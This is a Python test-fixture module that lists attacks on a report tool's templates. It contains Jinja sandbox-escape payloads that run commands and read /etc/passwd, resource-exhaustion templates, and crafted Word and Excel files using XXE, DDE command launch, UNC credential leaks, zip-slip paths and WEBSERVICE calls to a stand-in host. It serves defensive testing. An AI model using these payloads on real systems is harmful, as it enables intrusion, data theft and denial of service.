"""What somebody may try with a template: each attempt with what it wants, and a file that makes it.

``SECRET`` stands for a file that must not be read, ``CANARY`` for one that must not appear.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from pairing_cli.report.templates import packaged

SECRET = "secret.txt"
CANARY = "canary"
OPEN = "__globals__['__builtins__'].open('canary', 'w')"


@dataclass(frozen=True)
class Attack:
    """What is tried, in which format, and the template."""

    wants: str
    extension: str
    template: bytes


def code(wants: str, text: str) -> Attack:
    """An attack by tags, in Markdown."""
    return Attack(wants, "md", text.encode())


TWICE = "{% set x = [1] %}{% set y = [1] %}" + "{% set x = [x, x] %}{% set y = [y, y] %}" * 40
TUPLES = "{% set t = (1,) %}" + "{% set t = (t, t) %}" * 60
BLOCKS = "".join(
    f"{{% block b{n} %}}{{{{ self.b{n + 1}() }}}}{{{{ self.b{n + 1}() }}}}{{% endblock %}}"
    for n in range(40)
)
SORTS = "{% set s = 'x' * 400000 %}{% for a in s if (s | list | sort | length) < 0 %}{% endfor %}{{ s }}"

BY_TAGS = [
    code("run a command by a global", "{{ cycler.__init__.__globals__.os.popen('touch canary') }}"),
    code("run a command by lipsum", "{{ lipsum.__globals__['os'].system('touch canary') }}"),
    code("open a file by joiner", f"{{{{ joiner.__init__.{OPEN} }}}}"),
    code("open a file by the template itself", f"{{{{ self.__init__.{OPEN} }}}}"),
    code("find a class by a text", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    code("find a class by a list", "{{ rows.__class__.__base__.__subclasses__() }}"),
    code("find a class by a filter", "{{ title | attr('__class__') }}"),
    code("find a class by a member", "{{ title['__class__'] }}"),
    code("find a class by a format", "{{ '{0.__class__}'.format(title) }}"),
    code("find a class by a mapping's format", "{{ '{x.__class__}'.format_map({'x': title}) }}"),
    code("find globals by a macro", "{% macro m() %}{% endmacro %}{{ m.__call__.__globals__ }}"),
    code(
        "find globals by a loop", "{% for r in rows %}{{ loop.__init__.__globals__ }}{% endfor %}"
    ),
    code(
        "find globals by a caller",
        "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    ),
    code("find the frame of a generator", "{{ (rows | map('upper')).gi_frame.f_globals }}"),
    code("read a file by including it", "{% include 'secret.txt' %}"),
    code("read a file by importing it", "{% import 'secret.txt' as x %}{{ x }}"),
    code("read a file by extending it", "{% extends '/etc/passwd' %}"),
    code("change the facts", "{% for r in rows %}{{ r.update({'helper': 'x'}) }}{% endfor %}"),
    code("switch escaping off", "{% autoescape false %}{{ title }}{% endautoescape %}"),
    code("mark a text as safe", "{{ '<script>' | safe }}"),
    code("know the paths of this machine", "{{ title.__init__.__globals__.__file__ }}"),
    code("call the sandbox's own filter", "{{ -100000000 | _turn }}"),
    code("a large text by multiplying", "{{ 'x' * 1500000000 }}"),
    code("a large text by doubling", "{% set x = 'x' %}" + "{% set x = x ~ x %}" * 40),
    code("a large text by padding", "{{ 'x'.center(1000000000) }}"),
    code("a large text by %", "{{ '%1000000000d' % 1 }}"),
    code("a large text by replacing", "{{ ('x' * 50000) | replace('x', 'x' * 50000) }}"),
    code("a large text by joining", "{{ (['x' * 99999] * 9999) | join }}"),
    code("large bytes", "{{ (1).to_bytes(2000000000, 'big') }}"),
    code("bytes, multiplied", "{{ 'x'.encode() * 10000000000 }}"),
    code("a long date", "{{ as_of_date.strftime('%1000000000Y') }}"),
    code("a large number", "{{ 2 ** 1000000000 }}"),
    code("many places", "{{ 1.5 | round(999999999, 'ceil') }}"),
    code("a sum of lists", "{{ ([rows * 9999] * 9999) | sum(start=[]) | length }}"),
    code("lists of lists, printed", "{% set x = [1] %}" + "{% set x = [x, x] %}" * 60 + "{{ x }}"),
    code("lists of lists, compared", TWICE + "{{ x == y }}"),
    code("lists of lists, as a name", TUPLES + "{{ rows[0][t] }}"),
    code("lists of lists, in a mapping", TUPLES + "{{ {t: 1} }}"),
    code("loops in loops", "{% for a in title %}" * 12 + "x" * 999 + "{% endfor %}" * 12),
    code("loops that print nothing, sorting", SORTS),
    code(
        "macros that call themselves",
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}"
        "{% endif %}{% endmacro %}{{ f(60) }}",
    ),
    code("parts that call each other", BLOCKS + "{% block b40 %}{% endblock %}"),
    code("a loop inside itself", "{% for a in rows recursive %}{{ loop(rows) }}{% endfor %}"),
    code("deep brackets", "{{ " + "(" * 90000 + "1" + ")" * 90000 + " }}"),
    code("a long chain", "{{ title" + ".a" * 200000 + " }}"),
    code("a long sum", "{{ 1" + "+1" * 200000 + " }}"),
    code("deep blocks", "{% if 1 %}" * 20000 + "{% endif %}" * 20000),
    code("control characters for the terminal", "\x1b]52;c;aGk=\x07{{ titel }}"),
]


def packed(parts: dict[str, bytes | str]) -> bytes:
    """A zip archive."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def parts_of(extension: str) -> dict[str, bytes]:
    """The parts of the packaged template of the table of pairings."""
    with zipfile.ZipFile(packaged() / f"pairing-table.{extension}") as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_part(extension: str, name: str, content: bytes | str) -> bytes:
    """The packaged template with one part more, or another one."""
    return packed({**parts_of(extension), name: content})


def changed(extension: str, name: str, change: Callable[[str], str]) -> bytes:
    """The packaged template with one part changed."""
    return with_part(extension, name, change(parts_of(extension)[name].decode()))


def in_body(xml: str) -> bytes:
    """A Word template with something at the beginning of its text."""
    return changed(
        "docx", "word/document.xml", lambda text: text.replace("<w:body>", f"<w:body>{xml}", 1)
    )


def paragraph(text: str) -> str:
    """A Word paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def related(part: str, kind: str, target: str) -> bytes:
    """A Word template with a relationship to something outside."""
    found = (
        f'<Relationship Id="rId99" TargetMode="External" Target="{target}" Type="http://schemas.'
        f'openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )
    return changed("docx", part, lambda text: text.replace("</Relationships>", found))


def in_sheet(xml: str, before: str = "</worksheet>") -> bytes:
    """An Excel template with something at the end of its sheet."""
    return changed(
        "xlsx", "xl/worksheets/sheet1.xml", lambda text: text.replace(before, f"{xml}{before}", 1)
    )


def field(*codes: str) -> str:
    """A Word field whose instruction stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in codes)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def twice() -> bytes:
    """An archive with one name twice: readers differ in which they take."""
    out = BytesIO(with_part("docx", "word/extra.xml", "<a/>"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", "<a/>")
    return out.getvalue()


def encrypted() -> bytes:
    """An archive whose first part is flagged as encrypted."""
    data = bytearray(with_part("docx", "word/extra.xml", "<a/>"))
    start = data.rindex(b"PK\x01\x02")
    struct.pack_into("<H", data, start + 8, 1)
    return bytes(data)


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">'
    + "".join(f'<!ENTITY b{n} "&b{n - 1 if n else ""};&b{n - 1 if n else ""};">' for n in range(30))
    + "]><a>&b29;</a>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
SETTINGS = "word/_rels/settings.xml.rels"
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
EBCDIC = '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")
LONG = "{{ " + "title ~ " * 90000 + "title }}"
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>{{ title }}</t></is></c></row>'
    '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
)


def in_word(wants: str, template: bytes) -> Attack:
    """An attack by a Word file."""
    return Attack(wants, "docx", template)


def in_excel(wants: str, template: bytes) -> Attack:
    """An attack by an Excel file."""
    return Attack(wants, "xlsx", template)


def attached() -> bytes:
    """A template that fetches another template when it is opened."""
    parts: dict[str, bytes | str] = {**parts_of("docx")}
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    target = f'<Relationship Id="r1" Type="{kind}" Target="http://x/t.dotm" TargetMode="External"/>'
    return packed({**parts, SETTINGS: RELS.replace("></", f">{target}</")})


BY_FILES = [
    in_word("run a command in the text", in_body(paragraph("{{ cycler.__init__.__globals__ }}"))),
    in_word(
        "run a command in the title property",
        changed(
            "docx",
            "docProps/core.xml",
            lambda text: text.replace(
                "<dc:creator>",
                "<dc:subject>{{ cycler.__init__.__globals__ }}</dc:subject><dc:creator>",
            ),
        ),
    ),
    in_word(
        "run a command over two runs",
        in_body("<w:p><w:r><w:t>{{ cyc</w:t></w:r><w:r><w:t>ler.__init__ }}</w:t></w:r></w:p>"),
    ),
    in_word("a long tag in the text", in_body(paragraph(LONG))),
    in_word("macros", with_part("docx", "word/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
    in_word(
        "macros by content type",
        changed(
            "docx",
            "[Content_Types].xml",
            lambda text: text.replace(
                "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
            ),
        ),
    ),
    in_word("a template elsewhere", attached()),
    in_word(
        "a picture elsewhere", related("word/_rels/document.xml.rels", "image", "http://x/p.png")
    ),
    in_word(
        "a file of this machine",
        related("word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"),
    ),
    in_word(
        "a password by a network share",
        related("word/_rels/document.xml.rels", "image", r"\\host\share\p.png"),
    ),
    in_word("start a program by DDE", in_body(field("DDEAUTO c:\\\\cmd.exe"))),
    in_word("start a program by DDE in pieces", in_body(field("DD", "EAUTO c:\\\\cmd.exe"))),
    in_word(
        "start a program by a simple field",
        in_body('<w:p><w:fldSimple w:instr="DDE cmd /c calc"/></w:p>'),
    ),
    in_word("fetch a text by a field", in_body(field(' INCLUDETEXT "/etc/passwd" '))),
    in_word("an object inside", with_part("docx", "word/embeddings/oleObject1.bin", b"\xd0\xcf")),
    in_word("a page of HTML inside", in_body('<w:altChunk r:id="rId1"/>')),
    in_word("entities in entities", with_part("docx", "word/footnotes.xml", ENTITIES)),
    in_word("a file by an entity", with_part("docx", "word/footnotes.xml", OUTSIDE)),
    in_word("an encoding that hides", with_part("docx", "word/footnotes.xml", EBCDIC)),
    in_word("UTF-16 that hides", with_part("docx", "word/footnotes.xml", OUTSIDE.encode("utf-16"))),
    in_word("a part that unpacks to much", with_part("docx", "word/media/a.png", b"0" * (1 << 25))),
    in_word("two million paragraphs", in_body("<w:p/>" * 2_000_000)),
    in_word("deep nesting", in_body("<w:r>" * 5000 + "</w:r>" * 5000)),
    in_word("many parts", packed({f"{n}.xml": "" for n in range(5000)})),
    in_word(
        "a cell over a hundred million columns",
        changed(
            "docx",
            "word/document.xml",
            lambda text: text.replace("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="100000000"/>', 1),
        ),
    ),
    in_word("a name that leads outside", with_part("docx", "../canary", "x")),
    in_word("a name that leads to the root", with_part("docx", "/tmp/canary", "x")),
    in_word("one name twice", twice()),
    in_word("an encrypted part", encrypted()),
    in_word("no archive", b"PK\x03\x04" + b"\x00" * 99),
    in_word("an old binary file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 999),
    in_excel(
        "run a command in a cell",
        changed(
            "xlsx",
            "xl/worksheets/sheet1.xml",
            lambda text: text.replace("{{ title }}", "{{ cycler.__init__.__globals__ }}"),
        ),
    ),
    in_excel(
        "call what fills the sheet",
        changed(
            "xlsx",
            "xl/worksheets/sheet1.xml",
            lambda text: text.replace(
                "{{ title }}", "{{ put_cell(99999, 1) }}{{ begin_row(99999) }}"
            ),
        ),
    ),
    in_excel(
        "a sheet without end",
        changed(
            "xlsx",
            "xl/worksheets/sheet1.xml",
            lambda text: text.replace(
                "{{ title }}", "{% for a in title * 99999 %}{{ begin_row(1) }}{% endfor %}"
            ),
        ),
    ),
    in_excel(
        "start a program by DDE",
        in_sheet(
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
            "cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>",
            "<pageMargins",
        ),
    ),
    in_excel(
        "a web service",
        in_sheet(
            '<row r="99"><c r="A99"><f>WEBSERVICE("http://x/"&amp;A1)</f></c></row>', "</sheetData>"
        ),
    ),
    in_excel(
        "a workbook elsewhere", with_part("xlsx", "xl/externalLinks/externalLink1.xml", "<a/>")
    ),
    in_excel("a connection", with_part("xlsx", "xl/connections.xml", "<connections/>")),
    in_excel("an old macro sheet", with_part("xlsx", "xl/macrosheets/sheet1.xml", "<a/>")),
    in_excel(
        "a merge over the whole sheet",
        in_sheet('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', "<pageMargins"),
    ),
    in_excel("a cell at the far end", with_part("xlsx", "xl/worksheets/sheet1.xml", SHEET)),
    in_excel(
        "a million rows",
        in_sheet(
            "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(99, 99_999)),
            "</sheetData>",
        ),
    ),
]

ATTACKS = [*BY_TAGS, *BY_FILES]
